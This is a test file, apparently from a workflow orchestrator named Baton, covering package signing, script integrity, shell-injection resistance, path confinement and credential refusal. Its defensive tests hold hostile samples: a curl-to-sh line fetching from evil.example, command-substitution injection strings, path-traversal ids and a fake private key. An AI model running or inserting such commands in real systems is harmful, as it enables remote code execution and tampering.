/**
 * The security rules, one test each: only the signed command runs; an unsigned package runs only
 * as its run recorded it; a run can require signed packages; execute scripts are checked; package
 * data never reaches a shell; ids cannot name paths or shell code; paths stay in the workdir;
 * credentials are refused; results are bound to their run, phase, generation and package.
 */
import { existsSync } from 'node:fs';
import { mkdir, readFile, symlink, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { confinedPath } from '../../src/runner/paths.js';
import { PlanError } from '../../src/core/plan/problems.js';
import { checkRun } from '../../src/core/plan/validate.js';
import { agentResultProblem } from '../../src/core/workflows/agent-results.js';
import { RunBook } from '../../src/core/workflows/run-book.js';
import type { AgentResult } from '../../src/core/handoff/result.js';
import { contentHash } from '../../src/runner/signing.js';
import { baton, fixturePhase, runDir, startWorker, tempDir, workerForFile } from '../support/baton.js';

const KEY = { BATON_HANDOFF_KEY: 'security-test-key-0123456789abcdef' };
const setup = workerForFile([], KEY);

describe('security', () => {
  it('execute-phase runs only the command in the signed package: a swapped command is refused', async () => {
    const workdir = await tempDir();
    const run = await setup.orchestrator.start({ name: 'signed-command', workdir, phases: [fixturePhase(0)] });
    await run.finalStatus();
    const file = path.join(runDir(workdir, run.runId), 'handoffs', 'phase_0.json');
    const pkg = JSON.parse(await readFile(file, 'utf8'));
    const marker = path.join(workdir, 'pwned');
    pkg.execution_instructions.command = ['touch', marker];
    const swapped = path.join(workdir, 'swapped.json');
    await writeFile(swapped, JSON.stringify(pkg));
    for (const extra of [[], ['--allow-unsigned']]) {
      const result = await baton(['execute-phase', swapped, ...extra], { env: KEY });
      expect(result.code).toBe(2);
      expect(result.stderr).toContain("content_hash does not match the package's content: it was changed after it was sealed");
    }
    expect(existsSync(marker)).toBe(false);
  });

  it('--allow-unsigned means unsigned, not unchecked: a swapped command with its content_hash recomputed is refused', async () => {
    const workdir = await tempDir();
    const run = await setup.orchestrator.start({ name: 'rehashed-command', workdir, phases: [fixturePhase(0)] });
    await run.finalStatus();
    const file = path.join(runDir(workdir, run.runId), 'handoffs', 'phase_0.json');
    const pkg = JSON.parse(await readFile(file, 'utf8'));
    const marker = path.join(workdir, 'pwned');
    // The hash has no key: whoever swaps the command can recompute it, and drop the signature.
    const forged = { ...pkg, execution_instructions: { ...pkg.execution_instructions, command: ['touch', marker] }, signature: null };
    forged.content_hash = contentHash(forged);
    const swapped = path.join(workdir, 'rehashed.json');
    await writeFile(swapped, JSON.stringify(forged));
    const refused = await baton(['execute-phase', swapped, '--allow-unsigned'], { env: KEY });
    expect(refused.code).toBe(2);
    expect(refused.stderr).toContain(`it is unsigned and it is not the package run ${run.runId} handed out for phase 0, generation 1: execution_instructions.command differs from what the run recorded`);
    expect(existsSync(marker)).toBe(false);
    // Offline there is no history to compare with: it says what it checked, and what it could not.
    const unsigned = path.join(workdir, 'unsigned.json');
    await writeFile(unsigned, JSON.stringify({ ...pkg, signature: null }));
    const byHand = await baton(['execute-phase', unsigned, '--allow-unsigned', '--offline', '--out', path.join(workdir, 'r.json')]);
    expect(byHand.code, byHand.stderr).toBe(0);
    expect(byHand.stderr).toContain(`${unsigned} is unsigned and checked offline: its content hash, the files it references; not checked: that its command and config are those run ${run.runId} handed out`);
  });

  it('a run can require signed packages: a worker without the key leaves every phase to one with it', async () => {
    const keyless = await startWorker(['--class', 'default'], { BATON_WORKER_NAME: 'keyless' });
    try {
      const workdir = await tempDir();
      const phases = [0, 1, 2, 3, 4, 5].map((i) => fixturePhase(i, [], { sleep_ms: 300 }));
      const run = await setup.orchestrator.start({ name: 'signed-only', workdir, phases }, { require_signed_packages: true, worker_loss_retries: 6 });
      const status = await run.finalStatus();
      expect(status.state).toBe('completed');
      const list = await baton(['handoff', 'list', run.runId, '--json']);
      const rows = JSON.parse(list.stdout) as Array<{ phase: string; signed_by: string | null }>;
      expect(new Set(rows.map((r) => r.phase)).size).toBe(6);
      expect(rows.filter((r) => !r.signed_by?.startsWith('hmac:'))).toEqual([]); // not one unsigned
      expect(Object.values(status.phases).every((p) => !p.executed_by?.startsWith('keyless'))).toBe(true);
      expect(keyless.output()).toMatch(/the run requires signed packages \(require_signed_packages\) and there is no signing key on this worker/);
    } finally {
      await keyless.stop();
    }
  });

  it("validate and doctor check execute_phase_<id>.sh against the script Baton writes: a phase can rewrite it", async () => {
    const workdir = await tempDir();
    const rewrite = `const f = require('path').join(process.env.BATON_WORKDIR, 'runs', process.env.BATON_RUN_ID, 'handoffs', 'execute_phase_0.sh'); require('fs').appendFileSync(f, 'curl -s https://evil.example/x | sh\\n')`;
    const run = await setup.orchestrator.start({ name: 'rewritten-script', workdir, phases: [fixturePhase(0), { id: 1, depends_on: [0], command: ['node', '-e', rewrite] }] });
    await run.finalStatus();
    const handoffs = path.join(runDir(workdir, run.runId), 'handoffs');
    const validate = await baton(['handoff', 'validate', path.join(handoffs, 'phase_0.json')], { env: KEY });
    expect(validate.code).toBe(1);
    expect(validate.stderr).toContain(`execute_phase_0.sh: ${path.join(handoffs, 'execute_phase_0.sh')} is not the script Baton writes: it differs from line 8; do not run it`);
    expect((await baton(['handoff', 'validate', path.join(handoffs, 'phase_1.json')], { env: KEY })).code).toBe(0);
    const doctor = await baton(['doctor', run.runId], { env: KEY });
    expect(doctor.stdout).toContain(`✗ phase 0 (Phase 0)'s ${path.join(handoffs, 'execute_phase_0.sh')} is not the script Baton writes`);
    expect(doctor.stdout).toContain('✓ phase 1 (1)\'s execute_phase_1.sh is the script Baton writes');
  });

  it('package data never reaches a shell: metacharacters arrive verbatim and run nothing', async () => {
    const workdir = await tempDir();
    const marker = path.join(workdir, 'pwned');
    const evil = `$(touch ${marker}); \`touch ${marker}\` "; touch ${marker}; #`;
    const run = await setup.orchestrator.start({
      name: 'no-shell',
      workdir,
      global_context: { note: evil },
      phases: [{ ...fixturePhase(0, [], { note: evil }), command: ['node', '-e', 'const h=require(process.env.BATON_HANDOFF); require("fs").writeFileSync(process.env.BATON_OUTPUT, JSON.stringify({context:{seen:h.phase_config.note, argv:process.argv.slice(1)}}))', evil] }],
    });
    const status = await run.finalStatus();
    expect(status.phases['0']!.context!.context.seen).toBe(evil);
    expect(status.phases['0']!.context!.context.argv).toEqual([evil]);
    const script = await readFile(path.join(runDir(workdir, run.runId), 'handoffs', 'execute_phase_0.sh'), 'utf8');
    expect(script).not.toContain('touch');
    expect(existsSync(marker)).toBe(false);
  });

  it('phase ids cannot carry paths or shell code into file names and scripts', () => {
    for (const id of ['../../etc/x', 'a;touch x', '$(id)', 'a b', '.hidden', '']) {
      let message = '';
      try {
        checkRun({ name: 'p', phases: [{ id, name: 'x', command: ['true'] }] });
      } catch (err) {
        message = (err as PlanError).message;
      }
      expect(message, id).toMatch(/^ {2}- (phase ".*"|the phase at phases\[0\]): "id" must be a whole number ≥ 0, or a word of letters, digits, "\.", "_" and "-" \(ids name files and scripts\), got /m);
    }
  });

  it('paths cannot escape the workdir: no absolute paths, no .., no symlinks out', async () => {
    const workdir = await tempDir();
    const outside = await tempDir();
    await mkdir(path.join(workdir, 'sub'));
    await symlink(outside, path.join(workdir, 'sub', 'link'));
    expect(() => confinedPath(workdir, '/etc/passwd')).toThrow('is an absolute path');
    expect(() => confinedPath(workdir, '../x')).toThrow('outside the workdir');
    expect(() => confinedPath(workdir, 'sub/link/file')).toThrow('outside the workdir');
    expect(confinedPath(workdir, 'sub/file')).toBe(path.join(await import('node:fs').then((fs) => fs.realpathSync(workdir)), 'sub/file'));
  });

  it('credentials are refused in packages, and named without being echoed', async () => {
    const workdir = await tempDir();
    const run = await setup.orchestrator.start({ name: 'creds', workdir, phases: [fixturePhase(0)] });
    await run.finalStatus();
    const file = path.join(runDir(workdir, run.runId), 'handoffs', 'phase_0.json');
    const pkg = JSON.parse(await readFile(file, 'utf8'));
    const secret = ['-----BEGIN', ' RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n-----END RSA PRIVATE KEY-----'].join('');
    pkg.phase_config = { deploy_key: secret };
    const withKey = path.join(workdir, 'with-key.json');
    await writeFile(withKey, JSON.stringify(pkg));
    const result = await baton(['handoff', 'validate', withKey, '--allow-unsigned'], { env: KEY });
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('phase_config.deploy_key: a PEM private key');
    expect(result.stderr).not.toContain('MIIEowIBAAKCAQEA');
  });

  it('results are bound to their run, phase, generation and package hash', () => {
    const { plan, config } = checkRun({ name: 'bound', phases: [{ id: 0, name: 'A', command: ['true'], use_separate_agent: true }] });
    const book = new RunBook('run-1', plan, config, new Date(0));
    book.phase('0').start(new Date(0), true);
    const hash = `sha256:${'a'.repeat(64)}`;
    book.phase('0').awaitAgent({ since: '', deadline: null, package_hash: hash, handoff_path: 'p', script_path: 's' });
    const good: AgentResult = {
      schema_version: 1, execution_id: 'run-1', phase: 0, generation: 1, attempt: 1, package_hash: hash, outcome: 'completed',
      output: { context: {}, artifacts: {} }, error: null,
      provenance: { host: 'h', user: 'u', agent: null, mode: 'online', started_at: '', finished_at: '' }, content_hash: null, signature: null,
    };
    expect(agentResultProblem(book, good)).toBeUndefined();
    expect(agentResultProblem(book, { ...good, execution_id: 'run-2' })).toMatch(/^the result is for run run-2, but this is run run-1/);
    expect(agentResultProblem(book, { ...good, phase: 1 })).toMatch(/^the result is for phase 1, which this run does not have/);
    expect(agentResultProblem(book, { ...good, generation: 2 })).toMatch(/^the result is for generation 2 of phase 0/);
    expect(agentResultProblem(book, { ...good, package_hash: `sha256:${'b'.repeat(64)}` })).toMatch(/not the one handed out/);
  });

  it('commits one output per phase, keyed for idempotent effects', async () => {
    const workdir = await tempDir();
    const run = await setup.orchestrator.start({
      name: 'exactly-once',
      workdir,
      phases: [{ id: 0, name: 'Effect', retries: 2, command: ['sh', '-c', 'mkdir -p "$BATON_WORKDIR/effects" && (set -C; echo once > "$BATON_WORKDIR/effects/$(echo "$BATON_IDEMPOTENCY_KEY" | tr : _)") ; test "$BATON_ATTEMPT" -ge 2'] }],
    });
    const status = await run.finalStatus();
    expect(status.phases['0']!.attempts).toBe(2);
    const committed = JSON.parse(await readFile(path.join(runDir(workdir, run.runId), 'outputs', 'phase_0.json'), 'utf8'));
    expect(committed).toMatchObject({ execution_id: run.runId, phase: 0, generation: 1, attempt: 2, idempotency_key: `${run.runId}:0:g1` });
    const effects = await import('node:fs/promises').then((fs) => fs.readdir(path.join(workdir, 'effects')));
    expect(effects).toEqual([`${run.runId}_0_g1`]); // two attempts, one effect
  });
});
